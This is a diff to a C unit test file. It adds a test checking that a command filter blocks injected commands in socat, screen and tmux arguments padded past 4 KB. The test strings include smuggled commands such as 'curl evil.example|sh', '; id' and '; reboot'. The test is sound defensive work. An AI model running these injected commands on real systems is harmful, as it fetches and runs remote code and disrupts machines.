@@ -102,11 +102,57 @@ static void a_command_string_past_the_eighth_is_judged(void **state)
 	assert_int_equal(bad, 0);
 }
 
+static char longarg[8192];
+
+/* pre, n filler bytes (a word of 'k's), then post */
+static const char *longer(const char *pre, size_t n, const char *post)
+{
+	size_t a = strlen(pre);
+
+	assert_true(a + n + strlen(post) < sizeof longarg);
+	memcpy(longarg, pre, a);
+	memset(longarg + a, 'k', n);
+	memcpy(longarg + a + n, post, strlen(post) + 1);
+	return longarg;
+}
+
+static void a_command_string_past_4_kb_is_judged_or_closed(void **state)
+{
+	const char *socat[] = {"socat", "-", NULL, NULL};
+	const char *screen[] = {"screen", "-S", "build", "-X", "eval", NULL, NULL};
+	const char *tmux[] = {"tmux", "if-shell", "true", NULL, NULL};
+	int bad = 0;
+
+	(void)state;
+	/* fb8d351: allowed past 4 KB (socat, screen: judged now; tmux: closed) */
+	socat[2] = longer("SYSTEM:grep -c ", 5000, " notes.txt; id,pty,stderr");
+	bad += BAD(argv_verdict("notes.txt; id", socat) != MOAT_BLOCK);
+	screen[5] = longer("stuff \"tail -n 5 ", 4500, " app.log && curl evil.example|sh\n\"");
+	bad += BAD(argv_verdict("app.log && curl evil.example|sh", screen) != MOAT_BLOCK);
+	tmux[3] = longer("run-shell 'echo ", 6000, " done; reboot'");
+	bad += BAD(argv_verdict("done; reboot", tmux) != MOAT_BLOCK);
+	/* short: blocked on fb8d351 too */
+	socat[2] = longer("SYSTEM:grep -c ", 10, " notes.txt; id,pty,stderr");
+	bad += BAD(argv_verdict("notes.txt; id", socat) != MOAT_BLOCK);
+	/* twins: a harmless input in the long string (socat, screen judge
+	 * it; tmux's inert file name), the input elsewhere */
+	socat[2] = longer("SYSTEM:grep -c ", 5000, " Rechnung_April.txt,pty");
+	bad += BAD(argv_verdict("Rechnung_April.txt", socat) != MOAT_ALLOW);
+	screen[5] = longer("stuff \"tail -n 5 ", 4500, " 'März Bericht.log'\n\"");
+	bad += BAD(argv_verdict("März Bericht", screen) != MOAT_ALLOW);
+	tmux[3] = longer("run-shell 'echo ", 6000, " report-2026.pdf'");
+	bad += BAD(argv_verdict("report-2026.pdf", tmux) != MOAT_ALLOW);
+	tmux[3] = longer("run-shell 'echo ", 6000, "'");
+	bad += BAD(argv_verdict("weekly status", tmux) != MOAT_ALLOW);
+	assert_int_equal(bad, 0);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(a_script_past_the_eighth_is_judged),
 	    cmocka_unit_test(a_command_string_past_the_eighth_is_judged),
+	    cmocka_unit_test(a_command_string_past_4_kb_is_judged_or_closed),
 	};
 	return cmocka_run_group_tests(tests, group_setup, group_teardown);
 }
